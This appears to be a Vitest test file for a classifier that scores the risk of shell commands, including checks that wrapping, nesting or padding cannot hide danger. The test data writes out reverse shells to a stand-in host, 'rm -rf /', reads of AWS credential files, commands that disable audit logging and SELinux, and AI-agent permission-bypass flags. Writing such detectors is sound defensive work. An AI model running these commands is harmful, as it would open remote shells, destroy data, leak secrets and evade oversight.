import { describe, expect, it } from "vitest";
import { understand } from "../../lib/command/understand.js";
import type { Command } from "../../lib/domain/command.js";
import { defaultCatalogue } from "../../lib/impact/catalogue/index.js";
import { classify, matchesOf } from "../../lib/impact/classify.js";
import { compileCatalogue } from "../../lib/impact/compile.js";
import { notUnderstood, notUnderstoodId } from "../../lib/impact/not-understood.js";

const commandsOf = (text: string): readonly Command[] => understand({ kind: "script", text }).commands;

const heaviest = (text: string): number =>
  Math.max(0, ...commandsOf(text).flatMap((command) => classify(command).map(({ weight }) => weight)));

describe("an engineer at ordinary work", () => {
  it.each([
    "git status",
    "git commit -m 'explain why rm -rf / is a bad idea'",
    "npm test",
    "npm ci",
    "terraform plan",
    "kubectl get pods -n shop",
    "docker ps",
    "curl -s https://shop.example/health",
    "grep -rn 'DROP TABLE' migrations",
    "echo 'kubectl delete namespace shop'",
    "ls # rm -rf /",
    "cat <<'EOF'\ngit push --force origin main\nEOF",
    "printf '%s' 'terraform destroy' > notes.md",
    "man rm",
    "which kubectl",
    "aws s3 ls",
    "gh pr view 7",
  ])("does nothing that could hurt: %s", (line) => expect(heaviest(line)).toBe(0));

  it.each([
    "rm notes.txt",
    "rm -rf node_modules dist",
    "git push origin feature/cart",
    "docker run --rm -it alpine",
    "pip install requests",
    "chmod +x build.sh",
    "ssh web.example",
    "whoami",
    "aws sts get-caller-identity",
  ])("has a low impact only: %s", (line) => {
    expect(heaviest(line)).toBeGreaterThan(0);
    expect(heaviest(line)).toBeLessThan(0.3);
  });
});

describe("a disaster weighs as much, however it is wrapped", () => {
  const wrappers = [
    "sudo ",
    "env A=b ",
    "nohup ",
    "time ",
    "timeout 60 ",
    "sudo -E env B=c nice -n 5 ",
    "command ",
    "\\",
  ];
  const disasters: readonly (readonly [string, number])[] = [
    ["terraform destroy -auto-approve", 0.9],
    ["git push --force origin main", 0.85],
    ["rm -rf /", 1],
    ["mkfs.ext4 /dev/sdb1", 1],
    ["kubectl delete namespace shop", 0.8],
    ["aws cloudtrail stop-logging --name org", 0.9],
    ["claude --dangerously-skip-permissions", 0.8],
    ["cat ~/.aws/credentials", 0.6],
  ];
  describe.each(disasters)("%s", (line, weight) => {
    it.each(wrappers)("behind %s", (wrapper) => expect(heaviest(wrapper + line)).toBeGreaterThanOrEqual(weight));

    it("in a nested shell", () => expect(heaviest(`bash -c "sh -c '${line}'"`)).toBeGreaterThanOrEqual(weight));

    it("after something harmless", () =>
      expect(heaviest(`cd /srv && true; ${line} | tee out.txt`)).toBeGreaterThanOrEqual(weight));
  });
});

describe("what is asked for, rehearsed or undone", () => {
  it.each([
    "terraform destroy --help",
    "kubectl delete pods --all --dry-run=client",
    "git push --force --dry-run origin main",
    "helm uninstall shop --dry-run",
    "aws ec2 terminate-instances --instance-ids i-1 --dry-run",
    "npm publish --dry-run",
  ])("has no serious impact: %s", (line) => expect(heaviest(line)).toBeLessThan(0.3));

  it("does run where the rehearsal is switched off", () =>
    expect(heaviest("kubectl delete namespace shop --dry-run=none")).toBe(0.8));
});

describe("floor entries", () => {
  it.each([
    "bash -i >& /dev/tcp/drop.example/9000 0>&1",
    "nc -e /bin/sh drop.example 9000",
    "codex --yolo 'tidy up'",
    "systemctl stop auditd",
    "pkill tetragon",
    "sudo setenforce 0",
  ])("hold for: %s", (line) =>
    expect(
      commandsOf(line)
        .flatMap((command) => classify(command))
        .some(({ floor }) => floor),
    ).toBe(true),
  );
});

describe("the answer", () => {
  const [command] = commandsOf("git push --force origin main");

  it("is ordered, heaviest first, then by id", () => {
    const impacts = classify(command as Command);
    const sorted = [...impacts].sort((a, b) => b.weight - a.weight || (a.id < b.id ? -1 : 1));
    expect(impacts).toEqual(sorted);
    expect(impacts[0]?.id).toBe("git.force-push-main");
  });

  it("holds nothing of an entry but its impact", () =>
    expect(Object.keys(classify(command as Command)[0] ?? {}).sort()).toEqual([
      "attack",
      "class",
      "floor",
      "id",
      "weight",
    ]));

  it("names the tokens that decided", () =>
    expect(matchesOf(command as Command)[0]?.tokens).toEqual(
      expect.arrayContaining(["git", "push", "--force", "branch:main"]),
    ));

  it("is empty with an empty catalogue", () => expect(classify(command as Command, compileCatalogue([]))).toEqual([]));

  it("comes for a bare redirection too", () => expect(heaviest("> /dev/sda")).toBe(0.9));

  it("never throws for strange arguments", () => {
    const strange = { wrappers: [], redirections: [], upstream: [], downstream: [], dynamic: false };
    for (const argv of [[], [""], ["__proto__", "constructor"], ["rm", "\0", "\ud800"], ["git", "x".repeat(100_000)]]) {
      expect(() => classify({ ...strange, argv })).not.toThrow();
    }
  });

  it.each(["(", "exec ", "drop ", "socket ", "a=", "/proc/", "`", "$(", " set ", "-", "x@"])(
    "ends for arguments that are %j over and over, and gives the same answer twice",
    (part) => {
      const args = ["-c", part.repeat(50_000), ...Array.from({ length: 200 }, () => part.repeat(1_000))];
      for (const program of ["python3", "psql", "curl", "find", "cp"]) {
        const command = {
          argv: [program, ...args],
          wrappers: [],
          redirections: [],
          upstream: [],
          downstream: [],
          dynamic: false,
        };
        expect(classify(command)).toEqual(classify(command));
      }
    },
  );
});

describe("text that was not understood", () => {
  it("weighs like something serious", () =>
    expect(notUnderstood("syntax")).toMatchObject({ weight: 0.7, class: "execution", floor: false }));

  it("weighs enough to be told without any history when it was made too much to read", () => {
    for (const why of ["too-long", "too-deep", "too-many-commands"] as const)
      expect(notUnderstood(why).weight).toBeGreaterThanOrEqual(0.8);
  });

  it("is not an entry of the catalogue", () =>
    expect(defaultCatalogue.entries.some(({ id }) => id === notUnderstoodId)).toBe(false));
});

describe("a name with a glob", () => {
  it.each(["/bin/r? -rf /", "/bin/r[m] -rf /"])("weighs as what it can mean: %s", (line) =>
    expect(heaviest(line)).toBeGreaterThanOrEqual(0.95),
  );
});

describe("padding", () => {
  const idsOf = (text: string) =>
    understand({ kind: "script", text }).commands.flatMap((command) => classify(command).map(({ id }) => id));

  it.each([
    ["in front of a path", `cat ${"./".repeat(2_050)}../.aws/credentials`, "credential.read-known-file"],
    ["in front of a statement", `psql -c "select 1;${" ".repeat(5_000)} drop database prod"`, "database.drop-database"],
    ["by arguments", `git push --quiet ${"x ".repeat(1_100)}--force origin main`, "git.force-push-main"],
    ["by a long echo", `echo ${"a".repeat(60_000)}; rm -rf /`, "files.remove-root"],
    ["by many commands", `${"true; ".repeat(300)}rm -rf /`, "files.remove-root"],
    ["by a script that is too long", `${"true\n".repeat(20_000)}rm -rf /`, "files.remove-root"],
  ])("%s hides nothing", (_, text, id) => expect(idsOf(text)).toContain(id));
});
